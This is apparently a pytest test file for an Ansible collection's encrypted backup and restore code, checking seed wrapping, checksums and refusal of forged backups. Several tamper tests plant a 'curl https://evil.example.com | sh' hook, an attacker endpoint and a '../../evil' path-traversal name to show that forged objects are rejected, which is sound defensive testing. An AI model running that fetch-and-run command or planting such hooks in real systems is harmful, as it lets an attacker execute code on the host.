# Copyright (c) 2026, skyhaul contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import json
import os
from dataclasses import replace

import pytest

from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.common import crypto
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.common.errors import CloudsyncError
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.common.layout import Layout
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config import seed as seeds
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config import seed_passphrase as wrapping
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config.credential_store import (
    load_credential,
    read_credential,
    save_credential,
)
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config.credentials import Credential
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.config.task_store import load_task, save_task
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.safekeeping import backup as backups
from ansible_collections.skyhaul.cloudsync.plugins.module_utils._engine.safekeeping.restore import restore_backup

PASSPHRASE = "correct horse battery"
OFFSITE = Credential("offsite", "drive", secrets={"token": "T1"}, refreshed={"token": "T2"})
CRYPT = {"password": "crypt password", "salt": "crypt salt"}


@pytest.fixture(autouse=True)
def quick(monkeypatch):
    monkeypatch.setattr(wrapping, "COST", 2**4)


@pytest.fixture
def task(make_task):
    return make_task(encryption=CRYPT, schedule={"preset": "daily"}, notify=["https://hooks.example.net/secret"])


@pytest.fixture
def stored(layout, seed, task):
    """Store objects with secrets in all places."""
    save_credential(layout, seed, OFFSITE)
    save_task(layout, seed, task)


@pytest.fixture
def take(layout):
    def call(passphrase=PASSPHRASE, previous="", check_mode=False):
        return backups.take_backup(layout, passphrase, previous, check_mode)

    return call


@pytest.fixture
def other(tmp_path):
    """Return another host, without objects."""
    return Layout(str(tmp_path / "other"))


def restore(layout, text, passphrase=PASSPHRASE, existing="keep", check_mode=False):
    return restore_backup(layout, text, passphrase, existing, None, check_mode)


def everything_below(folder):
    found = {}
    for directory, _directories, names in os.walk(folder):
        for name in names:
            path = os.path.join(directory, name)
            with open(path, "rb") as stream:
                found[os.path.relpath(path, folder)] = os.readlink(path) if os.path.islink(path) else stream.read()
    return found


def config(layout):
    return everything_below(layout.root + "/etc")


@pytest.mark.usefixtures("stored")
def test_a_backup_contains_the_stored_forms_and_the_wrapped_seed(layout, seed, take):
    content = json.loads(take().text)

    assert content["credentials"] == {"offsite": read_credential(layout, "offsite")}
    assert content["seed"]["key_ids"] == [seed.primary]
    assert wrapping.unwrap_seed(content["seed"]["wrapped"], PASSPHRASE) == seed


@pytest.mark.usefixtures("stored")
def test_unchanged_content_results_in_the_same_backup(layout, seed, take):
    first = take()
    assert take(previous=first.text).text == first.text
    assert take(previous=first.text, check_mode=True).text == first.text

    with_other_passphrase = take("another passphrase", first.text)
    assert with_other_passphrase.before != with_other_passphrase.after
    assert wrapping.unwrap_seed(json.loads(with_other_passphrase.text)["seed"]["wrapped"], "another passphrase") == seed

    seeds.save_seed(layout, seed.add_primary())
    assert len(json.loads(take(previous=first.text).text)["seed"]["key_ids"]) == 2


@pytest.mark.usefixtures("stored")
def test_without_a_passphrase_the_last_wrapped_seed_is_kept_with_a_warning_if_it_is_outdated(layout, seed, take):
    assert take("").warnings == [backups.WITHOUT_SEED]
    first = take()
    assert take("", first.text).warnings == []
    assert take("", first.text).text == first.text

    seeds.save_seed(layout, seed.add_primary())
    later = take("", first.text)
    assert later.warnings == [backups.WITHOUT_SEED]
    assert json.loads(later.text)["seed"] == json.loads(first.text)["seed"]


@pytest.mark.usefixtures("stored")
def test_a_backup_warns_of_objects_that_the_host_cannot_decrypt(layout, seed, take):
    save_credential(layout, seeds.make_seed(), OFFSITE)

    assert take().warnings == [
        "The seed of this host cannot decrypt credential offsite. The backup contains these objects unchanged."
    ]
    os.unlink(layout.seed)
    with pytest.raises(CloudsyncError, match=r"The seed .* is missing"):
        take()
    assert take("").warnings == [backups.WITHOUT_SEED]


@pytest.mark.usefixtures("stored")
def test_a_damaged_file_prevents_a_backup(layout, take):
    with open(layout.task("nightly"), "w") as stream:
        stream.write("{")

    with pytest.raises(CloudsyncError, match=r"nightly\.json is damaged: it is not a JSON object"):
        take()


@pytest.mark.parametrize(
    "damage",
    [
        lambda content: content.update(schema=None),
        lambda content: content.pop("seed"),
        lambda content: content["credentials"]["offsite"].pop("secrets"),
        lambda content: content["credentials"]["offsite"].update(secrets=None),
        lambda content: content["credentials"].update(other=content["credentials"]["offsite"]),
        lambda content: content["tasks"]["nightly"].update(notify=5),
        lambda content: content["tasks"].update(nightly=[]),
        lambda content: content.update(tasks=[1]),
    ],
)
@pytest.mark.usefixtures("stored")
def test_an_edited_backup_is_refused_completely(take, other, damage):
    content = json.loads(take().text)
    damage(content)

    for call in (lambda text: restore(other, text), lambda text: take(previous=text)):
        with pytest.raises(CloudsyncError, match="it was edited or truncated"):
            call(json.dumps(content))
    assert not os.path.exists(other.config_dir)


def forge(content):
    """Return the text of an edited backup with a new checksum, which needs no key."""
    body = {key: value for key, value in content.items() if key != "checksum"}
    return json.dumps({**body, "checksum": crypto.compute_checksum(body)})


@pytest.mark.parametrize(
    "change",
    [
        lambda content: content["tasks"]["nightly"]["hooks"].update(before="curl https://evil.example.com | sh"),
        lambda content: content["tasks"]["nightly"].update(path="/etc"),
        lambda content: content["credentials"].pop("offsite"),
        lambda content: content["credentials"]["offsite"]["attributes"].update(endpoint="https://evil.example.com"),
        lambda content: content["seed"].update(key_ids=[]),
    ],
)
@pytest.mark.parametrize("code", ["kept", "removed", "of another seed"])
@pytest.mark.usefixtures("stored")
def test_nobody_can_edit_a_backup_without_the_passphrase(layout, task, take, other, change, code):
    content = json.loads(take().text)
    change(content)
    if code != "kept":
        content["code"] = ""
    text = forge(content)
    if code == "of another seed":
        text = backups.parse_backup(text).add_code(seeds.make_seed()).to_text()

    try:
        done = restore(other, text)
    except CloudsyncError as error:
        assert error.reason == "damaged" and "The backup is damaged: it was edited" in error.message
        assert not os.path.exists(other.config_dir)
    else:
        # Without the code of the whole, only the absence of an object can remain unnoticed.
        assert code != "kept" and "No seed can authenticate the backup as a whole" in done.warnings[0]
        assert load_task(other, seeds.load_seed(other), "nightly") == task
        assert content["credentials"] == {} or load_credential(other, seeds.load_seed(other), "offsite") == OFFSITE
    if code == "kept":
        with pytest.raises(CloudsyncError, match=r"It is the value of previous\. Move the file away"):
            take(previous=text)


@pytest.mark.usefixtures("stored")
def test_a_planted_object_that_no_seed_can_check_is_never_used(take, other, task):
    content = json.loads(take().text)
    content["tasks"]["nightly"]["hooks"]["before"] = "curl https://evil.example.com | sh"

    done = restore(other, forge({**content, "code": ""}), passphrase="")

    assert done.unreadable.tasks == ["nightly"]
    assert not os.path.exists(other.unit_dir)
    own = seeds.make_seed()
    seeds.save_seed(other, own)
    with pytest.raises(CloudsyncError, match="is not in the seed of this host"):
        load_task(other, own, "nightly")


@pytest.mark.usefixtures("stored")
def test_a_backup_of_the_first_version_is_not_restored_but_replaced(take, other):
    content = json.loads(take().text)
    old = {"schema": 1, "seed": content["seed"], "credentials": content["credentials"], "tasks": content["tasks"]}

    with pytest.raises(CloudsyncError, match="Restore it with that version of the collection, then upgrade"):
        restore(other, json.dumps(old))
    assert json.loads(take(previous=json.dumps(old)).text)["seed"] == content["seed"]


@pytest.mark.usefixtures("stored")
def test_an_edited_object_prevents_a_backup(layout, take):
    path = layout.task("nightly")
    with open(path) as stream:
        text = stream.read()
    with open(path, "w") as stream:
        stream.write(text.replace("/srv/data", "/srv/other"))

    with pytest.raises(CloudsyncError, match=r"Task nightly in .* is damaged: it was edited"):
        take()


@pytest.mark.usefixtures("stored")
def test_a_backup_of_a_newer_version_or_with_an_invalid_name_is_refused(take, other):
    content = json.loads(take().text)
    for change in ({"schema": 99}, {"tasks": {"nightly": {**content["tasks"]["nightly"], "schema": 99}}}):
        with pytest.raises(CloudsyncError, match="written by a newer version of cloudsync"):
            restore(other, forge({**content, **change}))
    evil = "../../evil"
    with pytest.raises(CloudsyncError, match=r"is invalid. Use 1 to 63"):
        restore(other, forge({**content, "tasks": {evil: {**content["tasks"]["nightly"], "name": evil}}}))


@pytest.mark.usefixtures("stored")
def test_a_restore_on_another_host_makes_the_changes_that_check_mode_returned(layout, seed, task, take, other):
    text = take().text
    foreseen = restore(other, text, check_mode=True)
    assert not os.path.exists(other.root)

    done = restore(other, text)

    assert (foreseen.before, foreseen.after, foreseen.changed) == (done.before, done.after, True)
    assert done.restored.to_dict() == {"credentials": ["offsite"], "tasks": ["nightly"]}
    assert seeds.load_seed(other) == seed
    assert load_credential(other, seed, "offsite") == OFFSITE
    assert load_task(other, seed, "nightly") == task
    assert os.path.islink(other.unit_dir + "/timers.target.wants/cloudsync@nightly.timer")
    again = restore(other, text)
    assert (again.changed, again.warnings) == (False, [])
    # With the same paths, all files are equal, byte for byte.
    assert {name: text for name, text in config(other).items() if "systemd" not in name} == config(layout)


@pytest.mark.usefixtures("stored")
def test_without_its_seed_all_objects_are_restored_with_a_warning(layout, take, other):
    done = restore(other, take().text, passphrase="")

    assert done.unreadable.to_dict() == {"credentials": ["offsite"], "tasks": ["nightly"]}
    assert "cannot decrypt these objects: credential offsite, task nightly. Nothing was" in done.warnings[0]
    names = ("cloudsync/credentials/offsite.json", "cloudsync/tasks/nightly.json")
    assert config(other) == {name: config(layout)[name] for name in names}

    seeds.save_seed(other, seeds.make_seed())
    assert restore(other, take().text, passphrase="").unreadable.credentials == ["offsite"]


@pytest.mark.usefixtures("stored")
def test_after_a_rotation_objects_with_the_same_secrets_do_not_differ(layout, seed, task, take):
    text = take().text
    rotated = seed.add_primary()
    seeds.save_seed(layout, rotated)
    save_credential(layout, rotated, OFFSITE)
    save_task(layout, rotated, task)
    before = config(layout)

    done = restore(layout, text, existing="replace")

    assert done.restored.to_dict() == done.kept.to_dict() == {"credentials": [], "tasks": []}
    assert {name: content for name, content in config(layout).items() if "systemd" not in name} == before


@pytest.mark.usefixtures("stored")
def test_a_restore_keeps_a_newer_refreshed_token(layout, seed, take):
    text = take().text
    newer = Credential("offsite", "drive", secrets={"token": "T1"}, refreshed={"token": "T3"})
    for description in ("", "another"):
        save_credential(layout, seed, replace(newer, description=description))
        restore(layout, text, existing="replace")
        assert load_credential(layout, seed, "offsite") == newer

    save_credential(layout, seed, Credential("offsite", "drive", secrets={"token": "T9"}, refreshed={"token": "T10"}))
    restore(layout, text, existing="replace")
    assert load_credential(layout, seed, "offsite") == OFFSITE


@pytest.mark.usefixtures("stored")
def test_a_decryptable_object_is_not_replaced_by_an_undecryptable_one(layout, take):
    text = take().text
    own = seeds.make_seed()
    seeds.save_seed(layout, own)
    mine = Credential("offsite", "s3", secrets={"secret_access_key": "mine"})
    save_credential(layout, own, mine)

    done = restore(layout, text, passphrase="", existing="replace")

    assert done.kept.credentials == ["offsite"]
    assert load_credential(layout, own, "offsite") == mine


@pytest.mark.usefixtures("stored")
@pytest.mark.parametrize("content", ["{", '{"schema": 1}', None])
def test_a_damaged_or_undecryptable_file_is_kept_under_another_name(layout, seed, take, content):
    text = take().text
    if content is None:
        save_credential(layout, seeds.make_seed(), OFFSITE)
    else:
        with open(layout.credential("offsite"), "w") as stream:
            stream.write(content)
    with open(layout.credential("offsite")) as stream:
        damaged = stream.read()

    assert restore(layout, text).kept.credentials == ["offsite"]
    with open(layout.credential("offsite")) as stream:
        assert stream.read() == damaged
    assert restore(layout, text, existing="replace").restored.credentials == ["offsite"]
    assert load_credential(layout, seed, "offsite") == OFFSITE
    (kept,) = (name for name in os.listdir(layout.credentials_dir) if ".damaged-" in name)
    with open(f"{layout.credentials_dir}/{kept}") as stream:
        assert stream.read() == damaged


@pytest.mark.usefixtures("stored")
def test_check_mode_without_cryptography_continues_with_a_warning(take, other, monkeypatch):
    text = take().text
    missing = crypto.build_missing_error()

    def lacking(_key):
        raise missing

    monkeypatch.setattr(f"{backups.__name__.rpartition('.')[0]}.restore.load_aes_gcm", lacking)
    monkeypatch.setattr(seeds, "load_aes_gcm", lacking)

    done = restore(other, text, check_mode=True)

    assert done.changed and str(done.unreadable) == ""
    assert done.warnings == ["The seed in the backup was not checked. " + missing.message]
